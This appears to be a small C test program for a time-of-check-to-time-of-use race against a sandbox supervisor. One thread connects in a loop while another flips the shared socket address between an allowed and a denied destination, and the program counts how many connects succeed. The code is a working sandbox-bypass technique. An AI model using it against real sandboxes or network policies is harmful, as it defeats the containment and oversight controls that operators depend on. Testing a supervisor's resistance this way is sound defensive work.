/* The TOCTOU attack on a supervisor: one thread connects, again and again, with a sockaddr that
 * names an allowed listener, while another thread flips the same sockaddr to a denied one in a
 * tight loop, hoping the supervisor checks one address and the kernel connects the other.
 *
 *   toctou ALLOWED_IP PORT DENIED_IP PORT N   prints how many of N connects succeeded */
#include <arpa/inet.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in shared, allowed, denied;
static atomic_int stop;

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        memcpy((void *)&shared, &denied, sizeof denied);
        memcpy((void *)&shared, &allowed, sizeof allowed);
    }
    return NULL;
}

static void fill(struct sockaddr_in *sin, const char *ip, const char *port) {
    memset(sin, 0, sizeof *sin);
    sin->sin_family = AF_INET;
    sin->sin_port = htons(atoi(port));
    inet_pton(AF_INET, ip, &sin->sin_addr);
}

int main(int argc, char **argv) {
    if (argc < 6) return 2;
    fill(&allowed, argv[1], argv[2]);
    fill(&denied, argv[3], argv[4]);
    memcpy(&shared, &allowed, sizeof allowed);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int n = atoi(argv[5]), ok = 0;
    for (int i = 0; i < n; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&shared, sizeof shared) == 0) ok++;
        close(s);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("%d\n", ok);
    return 0;
}
